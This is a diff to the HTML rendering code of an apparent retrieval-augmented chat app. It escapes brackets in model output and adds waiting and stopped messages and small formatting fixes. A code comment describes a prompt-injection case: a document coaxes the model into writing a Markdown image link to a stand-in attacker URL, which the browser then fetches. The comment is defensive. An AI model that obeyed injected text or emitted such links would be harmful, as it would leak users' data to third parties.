@@ -18,6 +18,8 @@ UNSUPPORTED_MARKER = "[unsupported]"
 STREAM_CURSOR = '<span class="rag-cursor">▍</span>'
 
 _CITE_RE = re.compile(r"\[(\d{1,3})\]")
+_CITE_OR_BRACKET_RE = re.compile(r"\[(\d{1,3})\]|[\[\]]")
+_BRACKET_ENTITY = {"[": "&#91;", "]": "&#93;"}
 _SENTENCE_END_RE = re.compile(r"(?<=[.!?])\s+(?=\S)|\n\s*\n")
 _WORD_RE = re.compile(r"[^\W_]+", re.UNICODE)
 # Words too common to say that two sentences are about the same thing.
@@ -54,13 +56,27 @@ def answer_body(text: str, *, turn: str) -> str:
         escape(UNSUPPORTED_MARKER),
         '<span class="rag-unsupported" title="No passage supports this sentence">⚠ unsupported</span>',
     )
-    return _CITE_RE.sub(lambda m: _cite_html(m.group(1), turn), escaped)
+    # Other brackets become entities so that model text cannot form Markdown links or images (a document
+    # could talk the model into writing ![](http://attacker/?q=...), which the browser would fetch).
+    return _CITE_OR_BRACKET_RE.sub(
+        lambda m: _cite_html(m.group(1), turn) if m.group(1) else _BRACKET_ENTITY[m.group(0)], escaped
+    )
 
 
 def search_line(query: str, *, done: bool) -> str:
     """The line above an answer that says what was searched for."""
     verb = "Searched for" if done else "Searching the documents for"
     return f'<div class="rag-search">🔎 {verb} <q>{escape(query)}</q>{"" if done else "…"}</div>'
+
+
+def waiting_message() -> str:
+    """The answer's place while the question waits in the queue."""
+    return '<div class="rag-search">⏳ Waiting for the model…</div>'
+
+
+def stopped_message(shown: str) -> str:
+    """What was shown of an answer the user stopped, marked as stopped (and no longer streaming)."""
+    return shown.replace(STREAM_CURSOR, "") + '\n\n<div class="rag-stopped">■ Stopped</div>'
 
 
 def streaming_message(query: str | None, text: str, *, turn: str) -> str:
@@ -143,7 +159,9 @@ def source_label(source: Source) -> str:
 
 def source_item(source: Source, *, turn: str, open_: bool = False) -> str:
     """One source as a collapsible `<details>`: number, file, page, score; passage with highlights inside."""
-    title = f'<span class="rag-src-title">{escape(source.title)}</span>' if source.title else ""
+    title = ""
+    if source.title and source.title != source.heading:
+        title = f'<span class="rag-src-title">{escape(source.title)}</span>'
     return (
         f'<details class="rag-source" id="rag-src-{turn}-{source.n}"{" open" if open_ else ""}>'
         f'<summary><span class="rag-src-n">{source.n}</span>'
@@ -291,11 +309,15 @@ def upload_report(
         else:
             added = indexed.get("added", 0) + indexed.get("updated", 0)
             lines.append(
-                f"✅ Ready to ask about {names} — {added} document{'s' if added != 1 else ''} indexed, "
-                f"{indexed.get('chunks', 0)} chunks."
+                f"✅ Ready to ask about {names} — {_count(added, 'document')} indexed, "
+                f"{_count(indexed.get('chunks', 0), 'chunk')}."
             )
     for name, reason in skipped:
         lines.append(f"❌ `{escape(name)}` could not be indexed: {escape(reason)}")
     for name, reason in rejected:
         lines.append(f"❌ `{escape(name)}` was not added: {escape(reason)}")
     return "\n\n".join(lines)
+
+
+def _count(n: int, noun: str) -> str:
+    return f"{n} {noun}{'' if n == 1 else 's'}"
